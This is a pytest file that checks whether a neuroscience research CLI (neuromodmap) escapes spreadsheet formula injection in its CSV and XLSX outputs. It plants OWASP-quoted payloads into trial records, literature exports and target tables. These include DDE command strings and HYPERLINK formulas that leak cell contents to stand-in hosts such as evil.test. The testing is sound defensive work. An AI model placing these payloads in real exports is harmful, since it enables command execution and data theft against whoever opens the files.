"""No CSV/XLSX cell that neuromodmap writes can start a spreadsheet formula (CSV injection).

The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection): a text cell
starting with ``=``, ``+``, ``-``, ``@``, TAB or CR is run as a formula by Excel, LibreOffice
Calc or Google Sheets; prefix it with an apostrophe. The commands run here are the ones users
run, on real registry records, search exports and target tables in which one field was edited
to hold a payload from that page. Each test checks every table the commands wrote
(``scan_formulas``, tests/conftest.py, written apart from the code under test) and that the
ordinary values beside the payloads (ids, negative numbers, PMIDs) come out unchanged.
"""

from __future__ import annotations

import csv
import math
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from neuromodmap._utils import defuse_formula, defuse_frame, restore_formula
from neuromodmap.cli import app

runner = CliRunner()

# payloads quoted on OWASP's CSV-injection page and in the reports it cites
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Error: click for details")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # Google Sheets and LibreOffice (with "trim spaces") drop the spaces before parsing
    "=",
    "-",
]
ORDINARY = ["NCT02586688", "ChiCTR2000029308", "JPRN-UMIN000027045", "O'Reardon JP", "a=b", "10.1007/s10899",
            "-38", "-0.5", "+1.5e-3", "17573044", "", "Transcranial magnetic stimulation - a review"]


def _run(*args: str):
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    return result


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


# ---------------------------------------------------------------------- the helper itself
@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_owasp_payload_gets_an_apostrophe(payload):
    assert defuse_formula(payload) == "'" + payload
    assert restore_formula(defuse_formula(payload)) == payload


@pytest.mark.parametrize("value", [*ORDINARY, -38, -0.5, 0, float("nan"), None, True])
def test_ordinary_values_and_numbers_are_left_alone(value):
    out = defuse_formula(value)
    assert out is value or (isinstance(value, float) and math.isnan(out))


def test_defusing_is_undone_exactly_on_real_titles(data_root):
    """restore_formula(defuse_formula(v)) == v on every title and author of a real export, on the
    payloads, and on payloads already behind apostrophes (which gain one more)."""
    ris = (data_root / "literature" / "exports" / "citesource_valid_data" / "psycinfo_64.ris").read_text("utf-8")
    texts = [line[6:] for line in ris.splitlines() if line[:2] in ("TI", "AU", "T2", "AB", "KW")]
    assert len(texts) > 300
    for value in texts + PAYLOADS + ["'" + p for p in PAYLOADS] + ["''=x", "'abc", "'-38"]:
        assert restore_formula(defuse_formula(value)) == value, value
    assert defuse_formula("'=x") == "''=x"  # so that reading it back gives "'=x", not "=x"


def test_frames_keep_numbers_numbers_and_defuse_names_too():
    frame = pd.DataFrame({"id": ["=1+1", "ba46"], "x": [-38, 44], "r": [-0.25, 0.5], "ok": [True, False],
                          "note": pd.array(["@x", None], dtype="string")}, index=["-far", "+thal"])
    frame["=evil"] = ["a", "-b"]
    out = defuse_frame(frame)
    assert out.dtypes.iloc[:4].tolist() == frame.dtypes.iloc[:4].tolist()
    assert out["x"].tolist() == [-38, 44] and out["r"].tolist() == [-0.25, 0.5]
    assert out["id"].tolist() == ["'=1+1", "ba46"] and out["note"].iloc[0] == "'@x" and pd.isna(out["note"].iloc[1])
    assert list(out.columns)[-1] == "'=evil" and out.iloc[:, -1].tolist() == ["a", "'-b"]
    assert out.index.tolist() == ["'-far", "'+thal"]
    assert frame["id"].iloc[0] == "=1+1"  # the caller's frame is not changed


# ---------------------------------------------------------------------- trials
HOSTILE_ID = '=HYPERLINK("http://x.test/?"&A1,"NCT02586688")'
HOSTILE_TITLE = "@SUM(1+9)*cmd|' /C calc'!A0 Safety and Effectiveness of NeuroStar"


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@pytest.fixture(scope="module")
def trials_run(tmp_path_factory, trials_dir):
    """A real ClinicalTrials.gov record (NCT02586688, rTMS for adolescent depression) with its id,
    title, sponsor and countries edited; a copy with an unreadable start date, in a file whose
    name starts with '='; and an untouched record. Classified, surveyed and linked by the CLI."""
    work = tmp_path_factory.mktemp("trials_csv")
    text = (trials_dir / "ctgov_legacy_xml" / "NCT02586688.xml").read_text(encoding="utf-8")
    for old, new in (("<nct_id>NCT02586688</nct_id>", f"<nct_id>{_xml_escape(HOSTILE_ID)}</nct_id>"),
                     ("<brief_title>Safety and Effectiveness of NeuroStar",
                      f"<brief_title>{_xml_escape(HOSTILE_TITLE)}"),
                     ("<agency>Neuronetics</agency>", "<agency>=cmd|' /C calc'!A0</agency>"),
                     ("<country>United States</country>", "<country>+Evil Land</country>")):
        assert old in text
        text = text.replace(old, new)
    (work / "edited.xml").write_text(text, encoding="utf-8")
    bad_date = re.sub(r"<start_date>[^<]*</start_date>", "<start_date>-1+1</start_date>", text)
    (work / "=bad.xml").write_text(bad_date, encoding="utf-8")
    plain = trials_dir / "ctgov_legacy_xml" / "NCT00001177.xml"
    db = work / "trials.duckdb"
    out = work / "out"
    out.mkdir()
    _run("trials", "classify", str(work / "edited.xml"), str(work / "=bad.xml"), str(plain),
         "-o", str(out / "labels.csv"), "--db", str(db), "--problems", str(out / "problems.csv"))
    _run("trials", "survey", "--db", str(db), "-o", str(out / "survey"))
    _run("trials", "link", "--db", str(db), "-o", str(out / "links.csv"))
    return work, out, db


def test_trials_outputs_carry_no_formula(trials_run, scan_formulas):
    work, out, _ = trials_run
    files = [p.relative_to(out).as_posix() for p in out.rglob("*.csv")]
    assert {"labels.csv", "problems.csv", "links.csv", "survey/tables/neuromod_trials.csv",
            "survey/tables/country.csv"} <= set(files)
    assert scan_formulas(out) == []
    labels = {restore_formula(r["registry_id"]): r for r in _rows(out / "labels.csv")}
    assert set(labels) == {HOSTILE_ID, "NCT00001177"}  # the id itself comes back whole
    assert labels[HOSTILE_ID]["modalities"] == "tms" and labels[HOSTILE_ID]["neuromod"] == "true"
    problem = _rows(out / "problems.csv")
    # the hostile id is not a ClinicalTrials.gov id: each record carrying it is kept and reported
    assert sorted((restore_formula(p["source"]), restore_formula(p["registry_id"]), p["field"], p["action"])
                  for p in problem) == sorted([
        (str(work / "=bad.xml"), HOSTILE_ID, "start_date", "field emptied"),
        (str(work / "=bad.xml"), HOSTILE_ID, "registry_id", "record kept, id invalid"),
        (str(work / "edited.xml"), HOSTILE_ID, "registry_id", "record kept, id invalid")])
    trial = _rows(out / "survey" / "tables" / "neuromod_trials.csv")[0]
    assert trial["registry_id"] == "'" + HOSTILE_ID and trial["title"].startswith("'" + HOSTILE_TITLE)
    # the record of =bad.xml is kept with its start date emptied; as the later copy of the
    # same id it is the one stored, so the survey has no start year for it
    assert trial["start_year"] == "" and trial["registry_url"] == "https://clinicaltrials.gov/show/NCT02586688"
    countries = pd.read_csv(out / "survey" / "tables" / "country.csv")
    assert countries["country"].tolist() == ["'+Evil Land"] and countries["n_trials"].tolist() == [1]


def test_a_relative_file_name_starting_a_formula_is_defused(trials_run, monkeypatch, scan_formulas):
    """The problems CSV names the file as given on the command line: '=bad.xml' from its folder."""
    work, _, _ = trials_run
    monkeypatch.chdir(work)
    out = work / "relative"
    out.mkdir()
    result = runner.invoke(app, ["trials", "classify", "=bad.xml", "-o", str(out / "labels.csv"),
                                 "--problems", str(out / "problems.csv")])
    assert result.exit_code == 0, result.output
    assert [(p["source"], p["field"]) for p in _rows(out / "problems.csv")] == [("'=bad.xml", "start_date"),
                                                                                ("'=bad.xml", "registry_id")]
    assert scan_formulas(out) == []


# ---------------------------------------------------------------------- literature
HOSTILE_PAPER = '=HYPERLINK("http://x.test/?q="&A1,"Psychosocial") Perspective'


def test_literature_outputs_carry_no_formula(tmp_path, data_root, trials_run, scan_formulas):
    """A real PubMed record (RIS) titled with a payload, first author '@Sirola' and journal
    '+Journal of gambling studies', quoting the PMID that the edited trial cites; a Scopus copy
    with another first author and a reworded title, so dedup lists the pair for review."""
    _, _, trials_db = trials_run
    ris = (data_root / "literature" / "exports" / "citesource_valid_data" / "pubmed_46.ris").read_text("utf-8")
    record = ris.split("ER  - ")[0] + "ER  - \n"
    for old, new in (("TI  - Psychosocial Perspective", "TI  - " + HOSTILE_PAPER),
                     ("AU  - Sirola, Anu", "AU  - @Sirola, Anu"),
                     ("T2  - Journal of gambling studies", "T2  - +Journal of gambling studies"),
                     ("PY  - 2023", "PY  - 2023\nUR  - https://pubmed.ncbi.nlm.nih.gov/17573044/")):
        assert old in record
        record = record.replace(old, new)
    (tmp_path / "pubmed.ris").write_text(record, encoding="utf-8")
    copy = (record.replace("AU  - @Sirola, Anu\n", "").replace("AU  - Wilska, Terhi-Anna\n",
                                                              "AU  - Wilska, Terhi-Anna\nAU  - @Sirola, Anu\n")
            .replace("Problem Gambling: The role of Social Relationships, Resilience",
                     "gambling problems: role of social relationships and resilience")
            .replace("DO  - 10.1007/s10899-022-10185-9\n", "")
            .replace("UR  - https://pubmed.ncbi.nlm.nih.gov/17573044/\n", ""))
    (tmp_path / "scopus.ris").write_text(copy, encoding="utf-8")
    db, out = str(tmp_path / "lit.duckdb"), tmp_path / "out"
    out.mkdir()
    _run("literature", "import", str(tmp_path / "pubmed.ris"), "--db", db, "--database", "PubMed")
    _run("literature", "import", str(tmp_path / "scopus.ris"), "--db", db, "--database", "@Scopus")
    _run("literature", "dedup", "--db", db, "--review", str(out / "review.csv"))
    review = _rows(out / "review.csv")
    assert len(review) == 1 and review[0]["decision"] == "review"
    assert review[0]["title_a"].startswith("'" + HOSTILE_PAPER) and 85 <= float(review[0]["title_similarity"]) < 95
    # the reviewer fills in the verdict; --decisions reads the file back
    review[0]["verdict"] = "duplicate"
    with open(out / "review.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(review[0]))
        writer.writeheader()
        writer.writerows(review)
    merged = _run("literature", "dedup", "--db", db, "--decisions", str(out / "review.csv"))
    assert "2 records gave 1 unique records" in " ".join(merged.output.split())
    kept = review[0]["record_id_a"]
    _run("literature", "fulltext", kept, "include", "--db", db)
    _run("literature", "export", "--db", db, "-o", str(out / "sheet.csv"))
    _run("literature", "export", "--db", db, "-o", str(out / "sheet.xlsx"))
    _run("literature", "prisma", "--db", db, "--trials-db", str(trials_db), "-o", str(out / "prisma"))
    _run("literature", "link-trials", "--db", db, "--trials-db", str(trials_db), "-o", str(out / "links"))

    assert len(list(out.rglob("*.csv"))) >= 9
    assert scan_formulas(out) == []
    sheet = _rows(out / "sheet.csv")[0]
    assert sheet["title"].startswith("'" + HOSTILE_PAPER) and sheet["citation"].startswith("'@Sirola")
    assert (sheet["pmid"], sheet["year"], sheet["doi"]) == ("17573044", "2023", "10.1007/s10899-022-10185-9")
    ws = load_workbook(out / "sheet.xlsx")["extraction"]
    header = [c.value for c in ws[1]]
    title = ws.cell(row=2, column=header.index("title") + 1)
    assert title.data_type == "s" and title.value.startswith("'" + HOSTILE_PAPER)
    databases = pd.read_csv(out / "prisma" / "databases.csv")
    assert sorted(databases["database"]) == ["'@Scopus", "PubMed"]
    assert any(r["title"].startswith("'" + HOSTILE_PAPER) for r in _rows(out / "prisma" / "records.csv"))
    link = _rows(out / "links" / "trial_links.csv")
    assert [(r["registry_id"], r["quoted"], r["method"]) for r in link] == [
        ("'" + HOSTILE_ID, "17573044", "registry_cites_pmid")]


# ---------------------------------------------------------------------- connectome
def test_connectome_outputs_carry_no_formula(tmp_path, data_root, monkeypatch, scan_formulas):
    """User targets whose ids and names are payloads, at real coordinates (M1, insula, thalamus,
    NAcc; one outside the brain): `connectome map` and `site-to-seed`, as in the lead's report."""
    monkeypatch.setenv("NEUROMODMAP_DATA", str(data_root))
    ids = ['=HYPERLINK("http://x.test")', "@insula", "+thal", "nacc", "-far"]
    targets = pd.DataFrame({"id": ids, "x": [-41, 38, -14, 8, 0], "y": [-7, 0, -26, 11, -34],
                            "z": [45, -1, 2, -10, -40],
                            "depth": ["superficial", "superficial", "deep", "deep", "deep"],
                            "name": ["=1+1", "-cmd", "@SUM(A1)", "nucleus accumbens", "far"]})
    targets.to_csv(tmp_path / "targets.csv", index=False)
    out = tmp_path / "out"
    _run("connectome", "map", "--targets", str(tmp_path / "targets.csv"), "--radius", "6", "--connectome",
         "enigma-schaefer200", "--n-null", "20", "--no-figures", "-o", str(out / "map"))
    _run("connectome", "site-to-seed", str(tmp_path / "targets.csv"), "--seed", "6,16,-10", "--search",
         "dlpfc_left", "-o", str(out / "seed.csv"))
    _run("connectome", "targets", "-o", str(out / "catalogue.csv"))
    names = {p.relative_to(out).as_posix() for p in out.rglob("*.csv")}
    assert {"map/targets_mapped.csv", "map/profiles.csv", "map/similarity.csv", "map/hubs.csv",
            "map/targets_skipped.csv", "map/targets_report.csv", "map/group_maps.csv", "seed.csv",
            "seed.search.csv", "catalogue.csv"} <= names
    assert scan_formulas(out) == []
    mapped = pd.read_csv(out / "map" / "targets_mapped.csv")
    assert mapped["id"].map(restore_formula).tolist() == ids[:4]
    assert mapped["x"].tolist() == [-41, 38, -14, 8] and mapped["x"].dtype.kind == "f"
    assert mapped["name"].tolist() == ["'=1+1", "'-cmd", "'@SUM(A1)", "nucleus accumbens"]
    similarity = pd.read_csv(out / "map" / "similarity.csv", index_col=0)
    assert similarity.columns.map(restore_formula).tolist() == ids[:4]
    assert similarity.index.map(restore_formula).tolist() == ids[:4]
    assert (similarity.to_numpy() < 0).any() and similarity.to_numpy().dtype.kind == "f"
    assert pd.read_csv(out / "map" / "targets_skipped.csv")["id"].tolist() == ["'-far"]
    seed = pd.read_csv(out / "seed.csv")
    assert seed["id"].map(restore_formula).tolist() == ids and seed["y"].tolist() == [-7, 0, -26, 11, -34]
    assert seed["connectivity"].dtype.kind == "f"
    catalogue = pd.read_csv(out / "catalogue.csv")
    assert (catalogue["x"] < 0).sum() > 10 and catalogue["x"].dtype.kind == "f"


# ---------------------------------------------------------------------- evidence, then the report
def test_evidence_outputs_and_the_report_built_from_them(tmp_path, data_root, scan_formulas):
    """dat.bcg (metafor_reference.json) in the extraction sheet with payloads as study ids and
    citations; `evidence meta`, then `report build` on its folder: the CSVs are defused, the
    report shows the text as written (escaped HTML, no apostrophe)."""
    import json

    ref = json.loads((data_root / "meta" / "metafor_reference.json").read_text())
    rows = []
    for i, (author, year, tpos, tneg, cpos, cneg, _ablat, _alloc) in enumerate(ref["dat.bcg"]["rows"]):
        rows.append({"study_id": f"bcg{i + 1}", "citation": f"{author} {year}", "year": year,
                     "design": "rct_parallel", "modality": "tms", "indication": "other",
                     "active_n": tpos + tneg, "active_responders": tpos, "control_n": cpos + cneg,
                     "control_responders": cpos})
    rows[0]["study_id"], rows[1]["citation"] = "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"
    rows[2]["citation"] = "@SUM(1+9)"
    sheet = tmp_path / "sheet.csv"
    pd.DataFrame(rows).to_csv(sheet, index=False)
    out = tmp_path / "meta"
    _run("evidence", "meta", str(sheet), "--measure", "RD", "--by", "none", "-o", str(out))
    assert len(list(out.glob("*.csv"))) >= 4
    assert scan_formulas(out) == []
    effects = pd.read_csv(out / "effect_sizes.csv")
    assert effects.map(restore_formula).isin(["=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]).sum().sum() == 2
    numeric = effects.select_dtypes("number")
    assert (numeric.to_numpy() < 0).any()  # risk differences below 0 stay numbers
    pooled = pd.read_csv(out / "pooled_report.csv")
    ci = pooled["95% CI"].iloc[0]  # text such as "-0.01 to -0.00": a spreadsheet would read "-0.01 to ..." as a formula
    assert re.fullmatch(r"'-\d\.\d+ to -?\d\.\d+", ci), ci
    report = tmp_path / "report.html"
    _run("report", "build", str(out), "-o", str(report))
    html = report.read_text(encoding="utf-8")
    assert "<td>-2+3+cmd|&#39; /C calc&#39;!A0</td>" in html and f"<td>{ci[1:]}</td>" in html
    assert "'-2+3+cmd" not in html and "&#39;-2+3+cmd" not in html and "&#39;=cmd" not in html
